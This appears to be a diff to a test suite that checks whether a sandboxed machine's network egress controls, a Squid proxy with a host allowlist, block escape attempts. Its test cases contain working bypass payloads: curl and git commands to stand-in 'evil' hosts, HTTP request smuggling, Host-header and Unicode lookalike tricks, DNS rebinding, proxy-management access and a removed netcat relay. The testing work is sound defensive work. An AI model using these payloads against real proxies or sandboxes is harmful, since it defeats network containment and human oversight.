@@ -1,8 +1,8 @@
 """Egress: everything that leaves a machine but by what its card lists."""
 
-from guards import (CALL_FILTER, CUT, FAMILIES, HOST_FILTER, IP_DENY, ISOLATION, NO_ROUTE, POLICY, PORT_FILTER, PRIVATE, PRIVATE_NETWORK, PROXY_FILTER,
+from guards import (CALL_FILTER, CUT, FAMILIES, HOST_FILTER, IP_DENY, ISOLATION, NO_ROUTE, MANAGEMENT, POLICY, PORT_FILTER, PRIVATE, PRIVATE_NETWORK, PROXY_FILTER,
                     SERVER_NAME, STRICT_PROXY, UNPRIVILEGED)
-from lab import BROKER, EVIL, GATEWAY, LAN_DEVICE, LAN_HOST, LISTED, METADATA, NAMESERVER, TOOLS, exchange, tls_get, tls_inside
+from lab import BROKER, EVIL, GATEWAY, LAN_DEVICE, LAN_HOST, LISTED, METADATA, NAMESERVER, PROXY, TOOLS, exchange, tls_get, tls_inside
 from suite import case
 
 # Around the proxy: straight to an address. Each layer suffices.
@@ -45,9 +45,19 @@ def _(lab):
     return b"from neighbour" in lab.attacker.send(b"GET /index.html HTTP/1.0\r\n\r\n", 8000, lab.neighbour.address)
 
 
-@case("the proxy variables are ignored", *OUTSIDE)
+for what, command in {
+        "curl without them": ["env", "-i", "PATH=/usr/bin:/bin", "/usr/bin/curl", "-s", "-m", "4", f"http://{EVIL}/"],
+        "curl told to go straight": ["/usr/bin/curl", "-s", "-m", "4", "--noproxy", "*", f"http://{EVIL}/"],
+        "curl by TLS": ["/usr/bin/curl", "-s", "-k", "-m", "4", "--noproxy", "*", f"https://{EVIL}/"]}.items():
+    case(f"the proxy variables are ignored: {what}", *OUTSIDE)(lambda lab, command=command: "from evil" in lab.attacker.run(*command))
+
+
+@case("the proxy variables are ignored: git", *OUTSIDE)
 def _(lab):
-    return "from evil" in lab.attacker.run("env", "-i", "PATH=/usr/bin:/bin", "/usr/bin/curl", "-s", "-m", "4", "--noproxy", "*", f"http://{EVIL}/")
+    token = lab.token()
+    lab.attacker.run(TOOLS + "busybox", "timeout", "5", "env", "-i", "PATH=/usr/bin:/bin", "HOME=/tmp", "git", "-c", "http.proxy=", "ls-remote",
+                     f"http://{EVIL}/{token}")
+    return any(token in request.start for server in lab.evil for request in list(server.requests.queue))
 
 
 # Datagrams
@@ -67,6 +77,13 @@ for address, port, what, guards in ((GATEWAY, 9999, "the gateway", TO_HOST), (GA
         lab.attacker.wire("udp", address, port, token)
         return lab.datagrams.saw(token)
     case(f"UDP: {what}", *guards)(attack)
+
+
+@case("UDP: a neighbour's machine", NO_ROUTE, IP_DENY, PORT_FILTER, ISOLATION)
+def _(lab):
+    token = lab.token()
+    lab.attacker.wire("udp", lab.neighbour.address, 9999, token)
+    return lab.neighbour_port.saw(token.encode())
 
 
 @case("UDP-Lite", CALL_FILTER, *OUTSIDE)
@@ -93,6 +110,12 @@ def _(lab):
 for name, to, guards in (("the internet", EVIL, (CALL_FILTER, UNPRIVILEGED, *OUTSIDE)), ("the gateway", GATEWAY, (CALL_FILTER, UNPRIVILEGED, *TO_HOST)),
                          ("a device in the LAN", LAN_DEVICE, (CALL_FILTER, UNPRIVILEGED, *OUTSIDE))):
     case(f"ICMP: {name}", *guards)(lambda lab, to=to: "reply" in lab.attacker.wire("ping", to))
+
+
+@case("ICMP: a neighbour's machine", CALL_FILTER, UNPRIVILEGED, NO_ROUTE, IP_DENY, PORT_FILTER, ISOLATION)
+def _(lab):
+    return "reply" in lab.attacker.wire("ping", lab.neighbour.address)
+
 
 for protocol, what in ((47, "GRE"), (4, "IP in IP"), (253, "a protocol for experiments")):
     def attack(lab, protocol=protocol):
@@ -134,6 +157,11 @@ def _(lab):
 @case("abstract unix socket: a service of the host", PRIVATE_NETWORK)
 def _(lab):
     return "from secret" in lab.attacker.wire("abstract", "attack-secret")
+
+
+@case("abstract unix socket: the names of the host's", PRIVATE_NETWORK)
+def _(lab):
+    return "@attack-secret" in lab.attacker.run("cat", "/proc/net/unix")
 
 
 # Names and addresses at the proxy. Plain HTTP shows best where one gets.
@@ -190,14 +218,19 @@ def _(lab):
 
 @case("rebinding: between the tunnel and what goes through it", PRIVATE, PROXY_FILTER)
 def _(lab):
-    name = f"{lab.token()}.wild.test"
-    lab.resolver.names[name] = [[LISTED], ["127.0.0.1"]]
-    with lab.attacker.open() as connection:
-        head = exchange(connection, f"CONNECT {name}:443 HTTP/1.1\r\nHost: {name}:443\r\n\r\n".encode(), b"\r\n\r\n")
-        if b" 200 " not in head:
-            raise RuntimeError(f"a listed name is not reached: {head!r}")
-        lab.pause(6)
-        return REACHED_INSIDE in tls_get(connection, name)
+    # Squid looks a name up to judge it and once more to connect; without its rule, only the latter.
+    for answers in ([LISTED], ["127.0.0.1"]), (["127.0.0.1"],):
+        name = f"{lab.token()}.wild.test"
+        lab.resolver.names[name] = list(answers)
+        with lab.attacker.open() as connection:
+            head = exchange(connection, f"CONNECT {name}:443 HTTP/1.1\r\nHost: {name}:443\r\n\r\n".encode(), b"\r\n\r\n")
+            if b" 200 " in head:
+                lab.pause(6 * (len(answers) - 1))
+                if REACHED_INSIDE in tls_get(connection, name):
+                    return True
+            elif len(answers) > 1:
+                raise RuntimeError(f"a listed name is not reached: {head!r}")
+    return False
 
 
 # Policy before any lookup
@@ -208,6 +241,8 @@ for what, attack in {
         "a POST": lambda lab, token: lab.attacker.get(f"http://{token}.evil.test/", method="POST", body=b"x"),
         "a listed name on a port that isn't": lambda lab, token: lab.attacker.tunnel(f"{token}.wild.test:8443"),
         "below a listed name without a wildcard": lambda lab, token: lab.attacker.get(f"http://{token}.api.fake.test/"),
+        "https:// in a request": lambda lab, token: lab.attacker.get(f"https://{token}.evil.test/"),
+        "ftp:// in a request": lambda lab, token: lab.attacker.get(f"ftp://{token}.evil.test/"),
         "many labels": lambda lab, token: lab.attacker.get(f"http://{'.'.join([token] * 4)}.evil.test/"),
         "a bare word": lambda lab, token: lab.attacker.get(f"http://{token}/")}.items():
     def tunnels(lab, attack=attack):
@@ -228,6 +263,14 @@ for what, url in {
         "a listed query": "http://evil.test/?api.fake.test", "a listed fragment": "http://evil.test/#@api.fake.test/",
         "another port": "http://evil.test:8080/"}.items():
     url_case(f"an unlisted name: {what}", url, POLICY)
+for header in ("X-Forwarded-Host: api.fake.test", "X-Forwarded-For: 10.213.0.3", "Forwarded: for=10.213.0.3;host=api.fake.test",
+               "Proxy-Authorization: Basic YXBpLmZha2UudGVzdDp4"):
+    url_case(f"an unlisted name: with {header.split(':')[0]}", "http://evil.test/", POLICY, headers=(header,))
+
+
+@case("an unlisted name: where a listed one redirects to", POLICY)
+def _(lab):
+    return "from evil" in lab.attacker.run("/usr/bin/curl", "-s", "-k", "-L", "-m", "20", "-x", f"http://{GATEWAY}:{PROXY}", "http://api.fake.test/redirect")
 
 
 @case("an unlisted name: by CONNECT", POLICY)
@@ -248,10 +291,17 @@ def bytes_case(name, data, *guards, wanted=b"from evil"):
 for what, host in {
         "NUL": b"evil.test\0.api.fake.test", "an encoded NUL": b"evil.test%00.api.fake.test", "a carriage return": b"evil.test\r.api.fake.test",
         "a space": b"evil.test .api.fake.test", "a tab": b"evil.test\t.api.fake.test",
+        "a lookalike of a dot": "evil\uff0etest#api.fake.test".encode(), "another lookalike of a dot": "evil\u2024test#api.fake.test".encode(),
+        "wide letters": "\uff45\uff56\uff49\uff4c.test#api.fake.test".encode(), "an encoded @": b"api.fake.test%40evil.test",
+        "a backslash": b"evil.test\\api.fake.test", "an encoded new line": b"evil.test%0d%0a.api.fake.test",
         "a lookalike of @": "api.fake.test\uff20evil.test".encode(),
         "letters of another alphabet": "ev\u0131l.test#api.fake.test".encode(),
         "too long a name": b"a." * 600 + b"api.fake.test@evil.test"}.items():
     bytes_case(f"an unlisted name: with {what}", b"GET http://" + host + b"/ HTTP/1.1\r\nHost: api.fake.test\r\nConnection: close\r\n\r\n", STRICT_PROXY)
+
+
+bytes_case("an unlisted name: with a new line in the request", b"GET http://evil.test/\r\nX: api.fake.test HTTP/1.1\r\nHost: evil.test\r\nConnection: close\r\n\r\n",
+           STRICT_PROXY)
 
 
 @case("CONNECT with a new line and another host", STRICT_PROXY)
@@ -261,7 +311,7 @@ def _(lab):
         return b" 200 " in head and b"from evil" in tls_get(connection, "evil.test")
 
 
-@case("CONNECT to an unlisted host with a listed Host", STRICT_PROXY, POLICY)
+@case("CONNECT to an unlisted host with a listed Host", STRICT_PROXY)
 def _(lab):
     with lab.attacker.open() as connection:
         head = exchange(connection, b"CONNECT evil.test:443 HTTP/1.1\r\nHost: api.fake.test:443\r\n\r\n", b"\r\n\r\n")
@@ -271,7 +321,7 @@ def _(lab):
 # Inside a tunnel
 
 for what, server_name in {"another host's": "evil.test", "none": None, "a listed neighbour's": "a.wild.test", "a longer one": "x.api.fake.test",
-                          "one with a listed end": "evilapi.fake.test"}.items():
+                          "one with a listed end": "evilapi.fake.test", "with a trailing dot": "api.fake.test."}.items():
     case(f"TLS server name: {what}", SERVER_NAME)(
         lambda lab, server_name=server_name: b"from api" in lab.attacker.tunnel("api.fake.test:443", server_name))
 
@@ -290,6 +340,8 @@ bytes_case("a second request on the connection", KEEP + b"GET http://evil.test/ 
 bytes_case("a second request behind a body", b"POST http://api.fake.test/ HTTP/1.1\r\nHost: api.fake.test\r\nContent-Length: 3\r\n\r\nabc"
            b"GET http://evil.test/ HTTP/1.1\r\nHost: evil.test\r\nConnection: close\r\n\r\n", POLICY)
 bytes_case("a second request: CONNECT", KEEP + b"CONNECT evil.test:80 HTTP/1.1\r\nHost: evil.test:80\r\n\r\n" + GET, POLICY, SERVER_NAME)
+bytes_case("a second request behind an upgrade", b"GET http://api.fake.test/ HTTP/1.1\r\nHost: api.fake.test\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n"
+           b"GET http://evil.test/ HTTP/1.1\r\nHost: evil.test\r\nConnection: close\r\n\r\n", POLICY)
 bytes_case("a second request, judged by the first", KEEP + b"GET http://evil.test/ HTTP/1.1\r\nHost: evil.test\r\nConnection: close\r\n\r\n", STRICT_PROXY)
 
 
@@ -306,7 +358,8 @@ def smuggled(name, head, before=b"0\r\n\r\n", line=b"POST http://getonly.fake.te
 
 smuggled("length and chunks", b"Content-Length: %d\r\nTransfer-Encoding: chunked")
 smuggled("chunks and length", b"Transfer-Encoding: chunked\r\nContent-Length: %d")
-smuggled("chunks in upper case", b"Content-Length: %d\r\ntransfer-encoding: CHUNKED, chunked")
+smuggled("a header in upper case", b"Content-Length: %d\r\nTRANSFER-ENCODING: chunked")
+smuggled("two codings", b"Content-Length: %d\r\nTransfer-Encoding: identity\r\nTransfer-Encoding: chunked")
 smuggled("chunks after a tab", b"Content-Length: %d\r\nTransfer-Encoding:\tchunked")
 smuggled("two lengths", b"Content-Length: 0\r\nContent-Length: %d", before=b"")
 smuggled("a space before the colon", b"Content-Length: %d\r\nTransfer-Encoding : chunked")
@@ -317,7 +370,7 @@ bytes_case("two Hosts", b"GET / HTTP/1.1\r\nHost: api.fake.test\r\nHost: evil.te
 bytes_case("two Hosts and a URL", b"GET http://api.fake.test/ HTTP/1.1\r\nHost: api.fake.test\r\nHost: evil.test\r\nConnection: close\r\n\r\n", STRICT_PROXY)
 bytes_case("a Host in another case", b"GET / HTTP/1.1\r\nHost: api.fake.test\r\nhOST: evil.test\r\nConnection: close\r\n\r\n", STRICT_PROXY)
 bytes_case("a listed Host and another URL", b"GET http://evil.test/ HTTP/1.1\r\nHost: api.fake.test\r\nConnection: close\r\n\r\n", POLICY)
-bytes_case("a request without a URL", b"GET / HTTP/1.1\r\nHost: evil.test, api.fake.test, evil.test\r\nX: @\r\nConnection: close\r\n\r\n", STRICT_PROXY, wanted=b"from ")
+bytes_case("a request without a URL", b"GET / HTTP/1.1\r\nHost: evil.test, api.fake.test, evil.test\r\nX: @\r\nConnection: close\r\n\r\n", STRICT_PROXY)
 
 
 @case("a listed URL and another Host", STRICT_PROXY)
@@ -329,10 +382,8 @@ def _(lab):
 
 # The proxy itself
 
-for url in ("http://10.213.0.1:3128/squid-internal-mgr/info", "http://agentmachine-proxy:3128/squid-internal-mgr/menu",
-            "http://agentmachine-proxy/squid-internal-mgr/info"):
-    case(f"proxy management: {url}", *INSIDE)(
-        lambda lab, url=url: any(word in lab.attacker.get(url) for word in (b"Start Time", b"Cache Manager Menu")))
+for url, what in {"menu": b"Cache Manager Menu", "info": b"Start Time", "active_requests": b"Connection:", "mem": b"Pool"}.items():
+    url_case(f"proxy management: {url}", f"http://agentmachine-proxy:{PROXY}/squid-internal-mgr/{url}", POLICY, MANAGEMENT, wanted=what)
 
 
 @case("the broker as a proxy", POLICY)
@@ -347,26 +398,35 @@ for what, card in {"an empty host list": {"allowed_hosts": []}, "another list": 
     case(f"{what}: by CONNECT", POLICY, card=card)(lambda lab: b"from api" in lab.attacker.tunnel("api.fake.test:443", "api.fake.test"))
 
 
+RELAYED = b"GET http://relayed.evil.test/ HTTP/1.0\r\n\r\n"
+
+
 @case("a relay inside the machine", POLICY)
 def _(lab):
     # Another process of the machine that forwards is the same source.
     port = 20000 + int(lab.token().split("x")[1]) % 10000
-    script = f"{TOOLS}busybox nc -lp {port} -e {TOOLS}wire tcp {GATEWAY} 3128 & " \
-             f"for i in 1 2 3 4 5 6; do printf 'GET http://evil.test/ HTTP/1.0\\r\\n\\r\\n' | {TOOLS}busybox timeout 4 {TOOLS}wire tcp 127.0.0.1 {port} && break; sleep 0.2; done; kill %1 2>/dev/null"
-    return "from evil" in lab.attacker.sh(script)
+    with lab.attacker.kept("relay", port, GATEWAY, PROXY) as first_line:
+        first_line(10)
+        return b"from evil" in lab.attacker.send(RELAYED, port, "127.0.0.1")
 
 
 @case("a relay in a neighbour that may more", NO_ROUTE, IP_DENY, PORT_FILTER, ISOLATION)
 def _(lab):
-    return b"from neighbour" in lab.attacker.send(b"GET http://neighbour.fake.test/index.html HTTP/1.0\r\n\r\n", 8000, lab.neighbour.address)
+    port = 20000 + int(lab.token().split("x")[1]) % 10000
+    with lab.neighbour.kept("relay", port, GATEWAY, PROXY) as first_line:
+        first_line(10)
+        if b"from evil" not in lab.neighbour.send(RELAYED, port, "127.0.0.1"):
+            raise RuntimeError("the neighbour's relay doesn't work")
+        return b"from evil" in lab.attacker.send(RELAYED, port, lab.neighbour.address)
 
 
 # A policy that is tightened
 
 TIGHTENED = "gone.fake.test:80,443"
+TIGHTER = {"allowed_hosts": [TIGHTENED, "api.fake.test:80,443"]}
 
 
-@case("tightened policy: the next request of an open connection", POLICY, card={"allowed_hosts": [TIGHTENED, "api.fake.test:80"]}, serial=True)
+@case("tightened policy: the next request of an open connection", POLICY, card=TIGHTER, serial=True)
 def _(lab):
     with lab.attacker.open() as connection, lab.denied(lab.attacker, TIGHTENED, cut=False) as deny:
         ask = b"GET http://gone.fake.test/ HTTP/1.1\r\nHost: gone.fake.test\r\n\r\n"
@@ -376,7 +436,7 @@ def _(lab):
         return b"from api" in exchange(connection, ask + GET)
 
 
-@case("tightened policy: an open tunnel", CUT, card={"allowed_hosts": [TIGHTENED, "api.fake.test:443"]}, serial=True)
+@case("tightened policy: an open tunnel", CUT, card=TIGHTER, serial=True)
 def _(lab):
     ask = b"GET / HTTP/1.1\r\nHost: x\r\n\r\n"
     with lab.attacker.open() as connection, lab.denied(lab.attacker, TIGHTENED, cut=lab.cuts) as deny:
